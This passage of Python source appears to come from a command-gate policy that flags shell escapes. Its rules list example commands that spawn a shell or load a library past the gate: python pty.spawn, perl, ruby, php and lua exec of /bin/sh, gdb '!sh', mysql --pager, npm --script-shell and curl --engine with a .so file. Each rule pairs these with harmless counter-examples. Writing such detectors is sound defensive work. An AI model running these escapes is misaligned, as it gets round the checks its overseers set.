        heads=heads("script", "screen", "tmux", "byobu", "zellij", "dtach", "abduco", "expect"),
        examples=("script", "screen", "tmux new -s x", "expect -c 'spawn sh; interact'"),
        counter=(
            "script -c 'make' build.log",
            "tmux ls",
            "screen -ls",
            "tmux new-session -d -s work",
            "tmux send-keys -t work 'make test' Enter",
        ),
    ),
    Rule(
        "escape.program-option",
        A,
        "{detail}, a known way to escape to a shell.",
        program_option,
        examples=(
            "npm --script-shell=/tmp/x.sh run build",
            "certbot --pre-hook=/tmp/x.sh renew",
            "mysql --pager=/bin/sh",
            "dvips -R0 texput.dvi",
        ),
        counter=("npm run build", "certbot renew", "dvips -R texput.dvi"),
        needs=_PROGRAM_OPTION_NEEDS,
    ),
    Rule(
        "escape.library-option",
        A,
        "{detail}, loading code into a program the gate cannot see.",
        library_option,
        examples=(
            "curl --engine /tmp/lib.so x",
            "ssh-keygen -D /tmp/lib.so",
            "ldconfig -f /tmp/ld.conf",
            "ffmpeg -f lavfi -i anullsrc -af ladspa=file=/tmp/lib.so out.wav",
        ),
        counter=("openssl engine -t", "ssh-keygen -t ed25519", "ldconfig"),
        needs=_LIBRARY_NEEDS,
    ),
    Rule(
        "escape.interpreter",
        A,
        "Inline code makes {detail}, escaping the gate.",
        interpreter_escape,
        tried_on=interpreters_and(_ESCAPING_PROGRAMS),
        examples=(
            "python -c 'import pty; pty.spawn(\"/bin/sh\")'",
            "perl -e 'exec \"/bin/sh\";'",
            "ruby -e 'exec \"/bin/sh\"'",
            "lua -e 'os.execute(\"/bin/sh\")'",
            "php -r 'system(\"/bin/sh -i\");'",
            "gdb -nx -ex '!sh' -ex quit",
            "python -c 'import ctypes; ctypes.CDLL(\"/tmp/x.so\")'",
            "sqlite3 /dev/null '.shell /bin/sh'",
        ),
        counter=(
            "python -c 'print(1)'",
            "node -e 'console.log(2)'",
            "perl -ne 'print if /x/' f",
            "sed '' file",
            "awk '{print $1}' f",
        ),
    ),
)
